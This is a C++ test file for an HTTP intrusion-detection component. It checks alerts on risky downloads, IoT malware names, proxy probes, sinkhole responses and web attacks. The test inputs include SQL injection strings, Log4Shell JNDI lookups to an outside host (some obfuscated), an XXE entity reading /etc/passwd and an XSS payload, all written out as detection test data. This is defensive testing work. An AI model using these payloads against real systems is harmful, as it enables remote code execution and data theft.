// HTTP heuristics through the HTTP detector, as records reach it: downloads of risky file
// types, IoT malware by architecture name, proxy probes, requests without Host, telling
// responses, the original client a proxy names, and the path segments web scanning counts.
#include <doctest/doctest.h>

#include "detect/http_detector.h"
#include "frame_builder.h"
#include "support/test_support.h"

using namespace spoor;
using namespace spoor::test;

namespace {

constexpr std::uint64_t kTime = 1'780'000'000'000'000'000ull;

// 10.1/16 is the local network: the tests' other 10.x hosts count as external.
std::shared_ptr<const detect::LocalNetworks> local_net() {
    return std::make_shared<const detect::LocalNetworks>(std::vector<std::string>{"10.1.0.0/16"});
}

struct Fixture {
    std::shared_ptr<const trails::TrailStore> store;
    std::shared_ptr<trails::Whitelist> whitelist = [] {
        auto w = std::make_shared<trails::Whitelist>();
        w->add_domain("updates.example");
        return w;
    }();
    detect::TrailMatchers matchers;
    detect::HttpDetector http;
    std::vector<detect::Alert> alerts;
    std::vector<std::uint64_t> paths;

    explicit Fixture(detect::HttpHeuristicsConfig config = {}, const trails::TrailSet& set = {})
        : store(trails::store_of(set)),
          matchers(store, whitelist, {}),
          http(matchers.context(), with_local(std::move(config)), whitelist) {}

    static detect::HttpHeuristicsConfig with_local(detect::HttpHeuristicsConfig config) {
        config.local = local_net();
        return config;
    }

    // The alerts this segment made, waiting ones included.
    std::vector<detect::Alert> see(std::string_view src, std::string_view dst, std::string head,
                                   std::uint16_t sport = 41000, std::uint16_t dport = 80) {
        FrameSpec spec = tcp(src, sport, dst, dport, 0x18);
        spec.payload.assign(head.begin(), head.end());
        const auto frame = build_frame(spec);
        proto::Packet packet;
        REQUIRE(proto::decode_frame(frame, packet) == proto::DecodeStatus::Ok);
        alerts.clear();
        http.inspect(packet, true, kTime, "eth0", alerts, &paths);
        http.flush(alerts);
        return alerts;
    }
    std::vector<detect::Alert> get(std::string_view host, std::string_view target,
                                   std::string_view dst = "10.2.0.80",
                                   std::string_view extra = "") {
        return see("10.1.0.1", dst,
                   "GET " + std::string(target) + " HTTP/1.1\r\nHost: " + std::string(host) +
                       "\r\nUser-Agent: curl/7.88.1\r\n" + std::string(extra) + "\r\n");
    }
};

std::vector<std::string> infos(const std::vector<detect::Alert>& alerts) {
    std::vector<std::string> out;
    for (const auto& a : alerts) {
        out.push_back(a.trail_type + " " + a.trail + " | " + a.info);
    }
    return out;
}

}  // namespace

TEST_CASE("download: a risky file type straight from an external host alerts; else silent") {
    Fixture f;
    const auto alerts = f.get("dl.example", "/files/Setup.EXE");
    CHECK(infos(alerts) ==
          std::vector<std::string>{"URL dl.example/files/Setup.EXE | direct .exe download "
                                   "(suspicious)"});
    const auto& a = alerts.at(0);
    CHECK(a.heuristic == "download");
    CHECK(a.detector == "heuristic");
    CHECK(a.reference == "(heuristic)");
    CHECK(a.severity == 2);
    CHECK(a.http->url == "/files/Setup.EXE");
    CHECK(a.app_proto == "http");
    for (const char* ext : {"dll", "scr", "ps1", "hta", "lnk", "msi", "apk"}) {
        CAPTURE(ext);
        CHECK(f.get("dl.example", std::string("/x.") + ext).size() == 1);
    }
    // A local server, a whitelisted name (or one under it), other file types, no extension.
    CHECK(f.get("intranet.example", "/tools/setup.exe", "10.1.0.9").empty());
    CHECK(f.get("cdn.updates.example", "/setup.exe").empty());
    CHECK(f.get("dl.example", "/report.pdf").empty());
    CHECK(f.get("dl.example", "/setup.exe.html").empty());
    CHECK(f.get("dl.example", "/exe").empty());
    CHECK(f.get("dl.example", "/search?q=setup.exe").empty());  // in the query, not the file
    // Maltrail's exceptions: a query (a download page, not a file), firmware and update paths.
    CHECK(f.get("dl.example", "/get/setup.exe?session=1").empty());
    CHECK(f.get("dl.example", "/cgi-bin/fw.exe").empty());
    CHECK(f.get("dl.example", "/pub/softpaq/sp1234.exe").empty());
}

TEST_CASE("iot-malware: a CPU-architecture file name from a bare-IP host alerts") {
    Fixture f;
    CHECK(infos(f.get("10.2.0.80", "/bins/sora.mips")) ==
          std::vector<std::string>{"URL 10.2.0.80/bins/sora.mips | potential iot-malware "
                                   "download (suspicious)"});
    CHECK(f.get("10.2.0.80:8080", "/arm7").size() == 1);
    CHECK(f.get("10.2.0.80", "/x86_64").at(0).severity == 1);  // "malware" in its info
    CHECK(f.get("[fd00::1]", "/Mirai.ARM7", "10.2.0.80").size() == 1);
    // A local server, a named host, other names that only start like an architecture.
    CHECK(f.get("10.1.0.9", "/bins/sora.mips", "10.1.0.9").empty());
    CHECK(f.get("downloads.example", "/bins/sora.mips").empty());
    CHECK(f.get("10.2.0.80", "/mipsology.html").empty());
    CHECK(f.get("10.2.0.80", "/armchair").empty());
}

TEST_CASE("proxy probe: an outside host asking a local one for an absolute URL or CONNECT") {
    Fixture f;
    const auto probe = f.see("10.9.0.1", "10.1.0.5",
                             "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n");
    CHECK(infos(probe) == std::vector<std::string>{"URL http://example.com/ | potential proxy "
                                                   "probe (suspicious)"});
    CHECK(probe.at(0).heuristic == "proxy-probe");
    CHECK(f.see("10.9.0.1", "10.1.0.5", "CONNECT 10.9.0.1:25 HTTP/1.1\r\n\r\n").size() == 1);
    // Local clients using a local proxy, an outside host asking an outside one, an origin-form
    // request from outside: silent.
    CHECK(f.see("10.1.0.1", "10.1.0.5", "GET http://example.com/ HTTP/1.1\r\n\r\n").empty());
    CHECK(f.see("10.9.0.1", "10.8.0.5", "GET http://example.com/ HTTP/1.1\r\n\r\n").empty());
    CHECK(f.see("10.9.0.1", "10.1.0.5", "GET / HTTP/1.1\r\nHost: a\r\n\r\n").empty());
    // An absolute target naming the server itself is plain HTTP (RFC 9112 3.2.2).
    CHECK(f.see("10.9.0.1", "10.1.0.5", "GET http://10.1.0.5/x HTTP/1.1\r\n\r\n").empty());
}

TEST_CASE("missing host: only when asked for, and not for absolute targets") {
    const std::string bare = "GET /index.html HTTP/1.1\r\nUser-Agent: x\r\n\r\n";
    CHECK(Fixture().see("10.1.0.1", "10.1.0.2", bare).empty());
    detect::HttpHeuristicsConfig config;
    config.missing_host = true;
    Fixture f(config);
    CHECK(infos(f.see("10.1.0.1", "10.1.0.2", bare)) ==
          std::vector<std::string>{"HTTP /index.html | missing host header (suspicious)"});
    CHECK(f.see("10.1.0.1", "10.1.0.2", "GET / HTTP/1.1\r\nHost: a\r\n\r\n").empty());
}

TEST_CASE("responses: sinkhole banners, seized-domain titles and risky content types alert") {
    Fixture f;
    const auto response = [&f](std::string head) {
        return f.see("10.2.0.80", "10.1.0.1", head, 80, 41000);
    };
    const auto sinkhole = response(
        "HTTP/1.1 200 OK\r\nServer: nginx\r\nX-Sinkhole: Malware sinkhole\r\n"
        "Content-Length: 0\r\n\r\n");
    CHECK(infos(sinkhole) == std::vector<std::string>{"HTTP X-Sinkhole: Malware sinkhole | "
                                                      "sinkhole response (malware)"});
    CHECK(sinkhole.at(0).severity == 1);
    CHECK(sinkhole.at(0).heuristic == "http-response");
    CHECK(sinkhole.at(0).http->status == 200);
    CHECK(sinkhole.at(0).src == ip("10.2.0.80"));
    CHECK(sinkhole.at(0).from_server);
    const std::string body = "<html><head><title>THIS DOMAIN HAS BEEN SEIZED</title></head>";
    CHECK(
        infos(response("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: " +
                       std::to_string(body.size()) + "\r\n\r\n" + body)) ==
        std::vector<std::string>{"HTTP THIS DOMAIN HAS BEEN SEIZED | seized domain (suspicious)"});
    CHECK(infos(response("HTTP/1.1 200 OK\r\nContent-Type: Application/HTA; charset=x\r\n"
                         "Content-Length: 0\r\n\r\n")) ==
          std::vector<std::string>{"HTTP application/hta | suspicious content type (suspicious)"});
    // Ordinary responses, and "sinkhole" in the body only.
    CHECK(response("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 8\r\n\r\n"
                   "sinkhole")
              .empty());
    CHECK(
        response("HTTP/1.1 404 Not Found\r\nServer: Apache\r\nContent-Length: 0\r\n\r\n").empty());
    detect::HttpHeuristicsConfig off;
    off.http_response = false;
    CHECK(Fixture(off)
              .see("10.2.0.80", "10.1.0.1", "HTTP/1.1 200 OK\r\nX-Sinkhole: y\r\n\r\n", 80, 41000)
              .empty());
}

TEST_CASE("the original client a proxy names goes with every alert of the request") {
    Fixture f;
    const auto alerts =
        f.get("dl.example", "/a.exe", "10.2.0.80", "X-Forwarded-For: 192.0.2.7, 10.1.0.1\r\n");
    REQUIRE(alerts.size() == 1);
    CHECK(alerts[0].xff == "192.0.2.7, 10.1.0.1");
    CHECK(f.get("dl.example", "/a.exe").at(0).xff.empty());
}

TEST_CASE("each check can be turned off") {
    detect::HttpHeuristicsConfig config;
    config.download = false;
    config.proxy_probe = false;
    Fixture f(config);
    CHECK(f.get("dl.example", "/a.exe").empty());
    CHECK(f.get("10.2.0.80", "/bins/x.mips").empty());
    CHECK(f.see("10.9.0.1", "10.1.0.5", "GET http://example.com/ HTTP/1.1\r\n\r\n").empty());
}

TEST_CASE("web scanning evidence: each request's first path segment, hashed") {
    CHECK(detect::first_path_segment("/admin/login.php?x=1") == "admin");
    CHECK(detect::first_path_segment("/wp-login.php") == "wp-login.php");
    CHECK(detect::first_path_segment("/?q=a/b") == "");
    CHECK(detect::first_path_segment("/") == "");
    Fixture f;
    f.get("a", "/admin/x");
    f.get("a", "/admin/y?z");
    f.get("a", "/static/app.js");
    f.see("10.1.0.1", "10.2.0.80", "CONNECT a:443 HTTP/1.1\r\n\r\n");  // no path
    REQUIRE(f.paths.size() == 3);
    CHECK(f.paths[0] == f.paths[1]);
    CHECK(f.paths[0] != f.paths[2]);
    detect::HttpHeuristicsConfig off;
    off.web_scan = false;  // nothing to hash for
    Fixture g(off);
    g.get("a", "/admin/x");
    CHECK(g.paths.empty());
}

TEST_CASE("web attacks and listed user agents, the User-Agent's verdict remembered") {
    TempDir dir;
    detect::HttpHeuristicsConfig config;
    config.attacks = std::make_shared<const detect::WebAttackPatterns>();
    config.user_agents =
        detect::SuspiciousUserAgents::load(dir.write("ua.txt", "# lab\nsqlmap\n").string());
    // A User-Agent that is a trail already alerts as the trail, not twice (the last check).
    trails::TrailSet listed;
    listed.add(trails::IndicatorKind::UserAgent, "sqlmap/9", {"lab tool (malware)", "(static)"},
               trails::SourceRank::StaticMalware);
    Fixture f(config, listed);
    const auto request = [&f](std::string target, std::string ua) {
        return f.see(
            "10.1.0.1", "10.1.0.80",
            "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + ua + "\r\n\r\n");
    };
    const std::string browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0";
    for (int again = 0; again < 2; ++again) {  // the second time from the verdicts kept
        CAPTURE(again);
        const auto sqli =
            request("/item?id=1%27%20UNION%20SELECT%20pass%20FROM%20users--", browser);
        REQUIRE(sqli.size() == 1);
        CHECK(sqli[0].info == "potential sql injection (suspicious)");
        CHECK(sqli[0].trail ==
              "shop.example/item?id=1%27%20UNION%20SELECT%20pass%20FROM%20users--");
        CHECK(sqli[0].matched_field == "http.url");
        CHECK(sqli[0].heuristic == "web-attack");
        // Log4Shell in the User-Agent outranks the XSS in the target.
        const auto both =
            request("/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "${${lower:j}ndi:ldap://10.9.0.1/a}");
        REQUIRE(both.size() == 1);
        CHECK(both[0].info == "potential remote code execution (suspicious)");
        CHECK(both[0].matched_field == "http.http_user_agent");
        // The same family in both: the target is named.
        const auto tie = request("/?x=${jndi:ldap://10.9.0.1/a}", "${jndi:ldap://10.9.0.1/b}");
        REQUIRE(tie.size() == 1);
        CHECK(tie[0].matched_field == "http.url");
        CHECK(infos(request("/index.html", "sqlmap/1.7.2#stable (https://sqlmap.org)")) ==
              std::vector<std::string>{
                  "UA sqlmap/1.7.2#stable (https://sqlmap.org) | user agent (suspicious)"});
        CHECK(request("/index.html", browser).empty());
        CHECK(request("/index.html", "").empty());
    }
    CHECK(infos(request("/", "sqlmap/9")) ==
          std::vector<std::string>{"UA sqlmap/9 | lab tool (malware)"});
}

TEST_CASE("web attacks: Log4Shell in any header") {
    detect::HttpHeuristicsConfig config;
    config.attacks = std::make_shared<const detect::WebAttackPatterns>();
    Fixture f(config);
    const auto with = [&f](std::string header) {
        return f.see("10.1.0.1", "10.1.0.80",
                     "GET / HTTP/1.1\r\nHost: shop.example\r\n" + header + "\r\n\r\n");
    };
    for (const char* header :
         {"X-Api-Version: ${jndi:ldap://10.9.0.1/a}", "Referer: ${${::-j}ndi:rmi://10.9.0.1/a}",
          "Cookie: x=%24%7Bjndi%3Adns%3A%2F%2F10.9.0.1%2Fa%7D", "X-Forwarded-Host: ${ jndi :x}"}) {
        const std::string text = header;
        CAPTURE(text);
        const auto alerts = with(text);
        REQUIRE(alerts.size() == 1);
        CHECK(alerts[0].info == "potential remote code execution (suspicious)");
        CHECK(alerts[0].matched_field == "http.request_headers");
    }
    CHECK(with("X-Template: ${HOME} and ${user.name}").empty());
    CHECK(with("Referer: http://shop.example/jndi-docs").empty());
}

TEST_CASE("web attacks: a form body is read, other bodies are not; SQL identifiers are no attack") {
    detect::HttpHeuristicsConfig config;
    config.attacks = std::make_shared<const detect::WebAttackPatterns>();
    Fixture f(config);
    const auto post = [&f](std::string type, std::string body) {
        return f.see("10.1.0.1", "10.1.0.80",
                     "POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: " + type +
                         "\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
    };
    const auto form =
        post("application/x-www-form-urlencoded", "user=admin%27+OR+%271%27%3D%271&pw=x");
    REQUIRE(form.size() == 1);
    CHECK(form[0].info == "potential sql injection (suspicious)");
    CHECK(form[0].matched_field == "http.request_body");
    CHECK(post("application/json", R"({"html":"<script>alert(1)</script>","path":"../../../x"})")
              .empty());
    CHECK(post("text/xml", "<a><![CDATA[x]]></a>").empty());
    CHECK(post("text/xml", R"(<a path="C:\Windows\x">' or 'a'='a</a>)").empty());
    // But an XML body's external entity, and a JNDI lookup in any body, alert.
    const auto xxe = post("application/xml", R"(<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x )"
                                             R"(SYSTEM "file:///etc/passwd">]><r>&x;</r>)");
    REQUIRE(xxe.size() == 1);
    CHECK(xxe[0].info == "potential xxe injection (suspicious)");
    CHECK(xxe[0].matched_field == "http.request_body");
    const auto json = post("application/json", R"({"name":"${jndi:ldap://10.9.0.1/a}"})");
    REQUIRE(json.size() == 1);
    CHECK(json[0].info == "potential remote code execution (suspicious)");
    // InfluxQL as Grafana sends it: "..." are identifiers, not string literals.
    CHECK(f.get("grafana.example",
                "/query?q=SELECT+mean(%22value%22)+FROM+%22cpu%22+WHERE+%22host%22+%3D+%27a%27+"
                "AND+%22cpu%22+%3D+%27b%27",
                "10.1.0.80")
              .empty());
}
